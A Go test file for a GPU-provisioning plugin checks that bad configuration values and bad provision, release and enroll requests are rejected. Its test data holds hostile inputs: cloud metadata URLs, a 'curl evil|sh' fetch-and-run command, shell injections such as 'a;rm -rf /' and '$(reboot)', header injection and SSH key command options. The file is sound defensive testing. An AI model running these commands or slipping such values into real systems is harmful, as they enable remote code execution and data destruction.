package manual_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/hashicorp/go-hclog"

	"github.com/gpuaas/gpuaas/plugins/manual"
	"github.com/gpuaas/gpuaas/sdk/base"
	"github.com/gpuaas/gpuaas/sdk/provisioner"
)

func newDriver() *manual.Driver { return manual.New(hclog.NewNullLogger()) }

// TestConfigure: every bad configuration is refused naming its field, URLs
// that point at link-local or metadata services included; a core that is
// down is unavailable, a key it refuses a configuration error.
func TestConfigure(t *testing.T) {
	h := setup(t)
	for _, c := range []struct {
		name      string
		overrides map[string]any
		field     string
	}{
		{"core_url missing", map[string]any{"core_url": nil}, "core_url"},
		{"core_url ftp", map[string]any{"core_url": "ftp://core.example"}, "core_url"},
		{"core_url with credentials", map[string]any{"core_url": "https://admin:pw@core.example"}, "core_url"},
		{"core_url with query", map[string]any{"core_url": "https://core.example/?x=1"}, "core_url"},
		{"core_url aws metadata", map[string]any{"core_url": "http://169.254.169.254/latest/meta-data"}, "core_url"},
		{"core_url link-local v6", map[string]any{"core_url": "http://[fe80::1]:8080"}, "core_url"},
		{"core_url aws metadata v6", map[string]any{"core_url": "http://[fd00:ec2::254]/"}, "core_url"},
		{"core_url mapped metadata", map[string]any{"core_url": "http://[::ffff:169.254.169.254]/"}, "core_url"},
		{"core_url gcp metadata name", map[string]any{"core_url": "http://metadata.google.internal./computeMetadata"}, "core_url"},
		{"core_url alibaba metadata", map[string]any{"core_url": "http://100.100.100.200/latest"}, "core_url"},
		{"core_url unspecified", map[string]any{"core_url": "http://0.0.0.0:8080"}, "core_url"},
		{"core_url not absolute", map[string]any{"core_url": "/api"}, "core_url"},
		{"api_key missing", map[string]any{"api_key": nil}, "api_key"},
		{"api_key short", map[string]any{"api_key": "gpk_short"}, "api_key"},
		{"api_key with a newline", map[string]any{"api_key": "gpk_0123456789abcdef\nX-Evil: 1"}, "api_key"},
		{"agent_url http", map[string]any{"agent_url": "http://agents.example:8443"}, "agent_url"},
		{"agent_url metadata", map[string]any{"agent_url": "https://169.254.169.254"}, "agent_url"},
		{"agent_ca_pem garbage", map[string]any{"agent_ca_pem": "not a certificate"}, "agent_ca_pem"},
		{"agent_ca_pem a key", map[string]any{"agent_ca_pem": "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"}, "agent_ca_pem"},
		{"core_ca_pem garbage", map[string]any{"core_ca_pem": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"}, "core_ca_pem"},
		{"heartbeat_max_age zero", map[string]any{"heartbeat_max_age": "0s"}, "heartbeat_max_age"},
		{"task_ttl over an hour", map[string]any{"task_ttl": "2h"}, "task_ttl"},
		{"task_ttl too short", map[string]any{"task_ttl": "10s"}, "task_ttl"},
		{"request_timeout zero", map[string]any{"request_timeout": "0s"}, "request_timeout"},
		{"agent_command relative", map[string]any{"agent_command": "gpuaas-agent"}, "agent_command"},
		{"agent_command traversal", map[string]any{"agent_command": "/usr/local/../bin/sh"}, "agent_command"},
		{"agent_command shell", map[string]any{"agent_command": "/bin/sh -c 'curl evil|sh'"}, "agent_command"},
		{"scratch_dirs root", map[string]any{"scratch_dirs": []any{"/"}}, "scratch_dirs"},
		{"scratch_dirs etc", map[string]any{"scratch_dirs": []any{"/etc"}}, "scratch_dirs"},
		{"scratch_dirs under usr", map[string]any{"scratch_dirs": []any{"/usr/local/scratch"}}, "scratch_dirs"},
		{"scratch_dirs agent state", map[string]any{"scratch_dirs": []any{"/var/lib/gpuaas-agent"}}, "scratch_dirs"},
		{"scratch_dirs whole tmp", map[string]any{"scratch_dirs": []any{"/tmp"}}, "scratch_dirs"},
		{"scratch_dirs whole home", map[string]any{"scratch_dirs": []any{"/home"}}, "scratch_dirs"},
		{"scratch_dirs traversal", map[string]any{"scratch_dirs": []any{"/scratch/../etc"}}, "scratch_dirs"},
		{"nomad_addr metadata", map[string]any{"nomad_addr": "http://169.254.169.254:4646"}, "nomad_addr"},
		{"nomad_addr unix", map[string]any{"nomad_addr": "unix:///var/run/nomad.sock"}, "nomad_addr"},
		{"nomad_namespace bad", map[string]any{"nomad_namespace": "a/b"}, "nomad_namespace"},
		{"nomad_region bad", map[string]any{"nomad_region": "eu west"}, "nomad_region"},
		{"nomad_datacenters empty", map[string]any{"nomad_datacenters": []any{}}, "nomad_datacenters"},
		{"nomad_datacenters bad", map[string]any{"nomad_datacenters": []any{"dc 1"}}, "nomad_datacenters"},
		{"nomad_token with spaces", map[string]any{"nomad_token": "a b"}, "nomad_token"},
		{"unknown field", map[string]any{"nomad_job_template": "x"}, "nomad_job_template"},
		{"wrong type", map[string]any{"tenant_sudo": "yes"}, "tenant_sudo"},
	} {
		t.Run(c.name, func(t *testing.T) {
			err := configure(t, newDriver(), h.config(c.overrides))
			var ce *base.ConfigError
			if !errors.As(err, &ce) || ce.Field != c.field {
				t.Fatalf("got %v, want a config error on %s", err, c.field)
			}
			if !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("%v does not match ErrInvalidArgument", err)
			}
		})
	}

	t.Run("defaults", func(t *testing.T) {
		d := newDriver()
		schema, _ := d.ConfigSchema(testCtx(t))
		if err := schema.Validate(); err != nil {
			t.Fatal(err)
		}
		for name, want := range map[string]any{"tenant_sudo": true, "heartbeat_max_age": "60s", "release_wipe": true, "task_ttl": "1h",
			"nomad_namespace": "default", "agent_command": "/usr/local/bin/gpuaas-agent"} {
			if f := schema.Field(name); f == nil || f.Default != want {
				t.Errorf("%s: default %v, want %v", name, f, want)
			}
		}
		if dcs, _ := schema.Field("nomad_datacenters").Default.([]string); len(dcs) != 1 || dcs[0] != "dc1" {
			t.Errorf("nomad_datacenters default %v", schema.Field("nomad_datacenters").Default)
		}
		for _, secret := range []string{"api_key", "nomad_token"} {
			if !schema.Field(secret).Secret() {
				t.Errorf("%s is not secret", secret)
			}
		}
		for _, req := range []string{"core_url", "api_key", "agent_url"} {
			if !schema.Field(req).Required {
				t.Errorf("%s is not required", req)
			}
		}
	})

	t.Run("core down", func(t *testing.T) {
		h.core.setDown(true)
		defer h.core.setDown(false)
		err := configure(t, newDriver(), h.config(nil))
		var ce *base.ConfigError
		if !errors.Is(err, base.ErrUnavailable) || errors.As(err, &ce) {
			t.Fatalf("got %v, want ErrUnavailable", err)
		}
	})
	t.Run("core unreachable", func(t *testing.T) {
		err := configure(t, newDriver(), h.config(map[string]any{"core_url": "http://127.0.0.1:1"}))
		if !errors.Is(err, base.ErrUnavailable) {
			t.Fatalf("got %v, want ErrUnavailable", err)
		}
	})
	t.Run("core over TLS with an unknown CA", func(t *testing.T) {
		tlsCore := newFakeCoreTLS(t)
		err := configure(t, newDriver(), h.config(map[string]any{"core_url": tlsCore.URL()}))
		if !errors.Is(err, base.ErrFailedPrecondition) || !strings.Contains(err.Error(), "core_ca_pem") {
			t.Fatalf("got %v, want ErrFailedPrecondition naming core_ca_pem", err)
		}
		if err := configure(t, newDriver(), h.config(map[string]any{"core_url": tlsCore.URL(), "core_ca_pem": tlsCore.caPEM()})); err != nil {
			t.Fatalf("with core_ca_pem: %v", err)
		}
	})
	for name, key := range map[string]string{"unknown key": "gpk_not-a-key-of-this-core-000", "non-admin key": coreOtherKey} {
		t.Run(name, func(t *testing.T) {
			err := configure(t, newDriver(), h.config(map[string]any{"api_key": key}))
			var ce *base.ConfigError
			if !errors.As(err, &ce) || ce.Field != "api_key" {
				t.Fatalf("got %v, want a config error on api_key", err)
			}
			if strings.Contains(err.Error(), key) {
				t.Fatal("the error shows the key")
			}
		})
	}
	t.Run("instance name", func(t *testing.T) {
		d := newDriver()
		schema, _ := d.ConfigSchema(testCtx(t))
		cfg, err := base.ValidateConfig(schema, h.config(nil))
		if err != nil {
			t.Fatal(err)
		}
		cfg.Instance = "../other"
		if err := d.Configure(testCtx(t), cfg); !errors.Is(err, base.ErrInvalidArgument) {
			t.Fatalf("got %v", err)
		}
	})
	t.Run("not configured", func(t *testing.T) {
		_, err := newDriver().Status(testCtx(t), "x")
		if !errors.Is(err, base.ErrFailedPrecondition) {
			t.Fatalf("got %v", err)
		}
	})
}

// TestBadInput: requests with values that must never reach a node are
// refused before anything is queued.
func TestBadInput(t *testing.T) {
	h := setup(t)
	d := h.driver(t, nil)
	ctx := testCtx(t)
	node := h.nodes[0]
	rsa1024 := "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDDgNpkVWGWkYfQ7TfUUeMAF/P48CiKHUPwVYmpr1Ej4YBJXK3LrqbNNZsgq+JrwSz0r5PVK3cHzCqn3Lva+BB5tbTiCKYKu+5lB0Gd6DXiVVZFRcmAt5m1ytcEFCsyXTiRhfsq0PLzxz12BIubfxS7dSd4tfFt8BGaUvBRWxEwBw== short"
	provisionCases := map[string]func(*provisioner.ProvisionRequest){
		"no operation id":     func(r *provisioner.ProvisionRequest) { r.OperationID = "" },
		"long operation id":   func(r *provisioner.ProvisionRequest) { r.OperationID = strings.Repeat("x", 196) },
		"operation id spaces": func(r *provisioner.ProvisionRequest) { r.OperationID = "a b" },
		"node traversal":      func(r *provisioner.ProvisionRequest) { r.NodeID = "../../etc" },
		"node with a slash":   func(r *provisioner.ProvisionRequest) { r.NodeID = "a/b" },
		"node empty":          func(r *provisioner.ProvisionRequest) { r.NodeID = "" },
		"user root":           func(r *provisioner.ProvisionRequest) { r.User.Username = "root" },
		"user nomad":          func(r *provisioner.ProvisionRequest) { r.User.Username = "nomad" },
		"user systemd":        func(r *provisioner.ProvisionRequest) { r.User.Username = "systemd-x" },
		"user capital":        func(r *provisioner.ProvisionRequest) { r.User.Username = "Alice" },
		"user shell":          func(r *provisioner.ProvisionRequest) { r.User.Username = "a;rm -rf /" },
		"user traversal":      func(r *provisioner.ProvisionRequest) { r.User.Username = "../root" },
		"user long":           func(r *provisioner.ProvisionRequest) { r.User.Username = strings.Repeat("a", 32) },
		"user empty":          func(r *provisioner.ProvisionRequest) { r.User.Username = "" },
		"uid system":          func(r *provisioner.ProvisionRequest) { r.User.UID = 1000 },
		"uid too high":        func(r *provisioner.ProvisionRequest) { r.User.UID = 65534 },
		"uid negative":        func(r *provisioner.ProvisionRequest) { r.User.UID = -1 },
		"allocation shell":    func(r *provisioner.ProvisionRequest) { r.AllocationID = "$(reboot)" },
		"no keys":             func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = nil },
		"too many keys":       func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = slices33(sshKey) },
		"key garbage":         func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{"not a key"} },
		"key options":         func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{`command="/bin/sh" ` + sshKey} },
		"key from option":     func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{`from="*" ` + sshKey} },
		"key second line":     func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{sshKey + "\n" + sshKey} },
		"key carriage return": func(r *provisioner.ProvisionRequest) {
			r.SSHPublicKeys = []string{strings.Replace(sshKey, " alice", "\r\nalice", 1)}
		},
		"key comment shell": func(r *provisioner.ProvisionRequest) {
			r.SSHPublicKeys = []string{strings.TrimSuffix(sshKey, "alice@laptop") + "$(id)"}
		},
		"key short rsa": func(r *provisioner.ProvisionRequest) { r.SSHPublicKeys = []string{rsa1024} },
		"key private material": func(r *provisioner.ProvisionRequest) {
			r.SSHPublicKeys = []string{"-----BEGIN OPENSSH PRIVATE KEY-----"}
		},
	}
	for name, mutate := range provisionCases {
		t.Run("provision "+name, func(t *testing.T) {
			req := provisionReq(opID(t, "p"), node)
			mutate(req)
			before := h.core.taskCount(instance, node)
			if _, err := d.Provision(ctx, req); !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("got %v, want ErrInvalidArgument", err)
			}
			if h.core.taskCount(instance, node) != before {
				t.Fatal("a task was queued")
			}
		})
	}
	releaseCases := map[string]*provisioner.ReleaseRequest{
		"no operation id":   {NodeID: node, Username: "alice", Mode: provisioner.ReleaseRevoke},
		"no user":           {OperationID: "r1", NodeID: node, Mode: provisioner.ReleaseRevoke},
		"user root":         {OperationID: "r2", NodeID: node, Username: "root", Mode: provisioner.ReleaseRevoke},
		"user traversal":    {OperationID: "r3", NodeID: node, Username: "../x", Mode: provisioner.ReleaseRevoke},
		"no mode":           {OperationID: "r4", NodeID: node, Username: "alice"},
		"unknown mode":      {OperationID: "r5", NodeID: node, Username: "alice", Mode: "shred"},
		"allocation shell":  {OperationID: "r6", NodeID: node, Username: "alice", AllocationID: "a`id`", Mode: provisioner.ReleaseRevoke},
		"long operation id": {OperationID: strings.Repeat("r", 196), NodeID: node, Username: "alice", Mode: provisioner.ReleaseWipe},
	}
	for name, req := range releaseCases {
		t.Run("release "+name, func(t *testing.T) {
			if _, err := d.Release(ctx, req); !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("got %v, want ErrInvalidArgument", err)
			}
		})
	}
	enrollCases := map[string]*provisioner.EnrollRequest{
		"no operation id":    {NodeID: node},
		"node traversal":     {OperationID: "e1", NodeID: "../x"},
		"node space":         {OperationID: "e2", NodeID: "gpu 1"},
		"node template":      {OperationID: "e3", NodeID: "${node.unique.id}"},
		"address shell":      {OperationID: "e4", NodeID: node, Address: "host;reboot"},
		"bad tag":            {OperationID: "e5", NodeID: node, Tags: []string{"a b"}},
		"unknown param":      {OperationID: "e6", NodeID: node, Params: map[string]string{"command": "/bin/sh"}},
		"gpu count not int":  {OperationID: "e7", NodeID: node, Params: map[string]string{"gpu_model": "H100", "gpu_count": "eight"}},
		"gpus without model": {OperationID: "e8", NodeID: node, Params: map[string]string{"gpu_count": "8"}},
		"model with quote":   {OperationID: "e9", NodeID: node, Params: map[string]string{"gpu_model": `H100"; reboot`}},
	}
	for name, req := range enrollCases {
		t.Run("enroll "+name, func(t *testing.T) {
			if _, err := d.Enroll(ctx, req); !errors.Is(err, base.ErrInvalidArgument) {
				t.Fatalf("got %v, want ErrInvalidArgument", err)
			}
		})
	}
}

func slices33(k string) []string {
	out := make([]string, 33)
	for i := range out {
		out[i] = k
	}
	return out
}
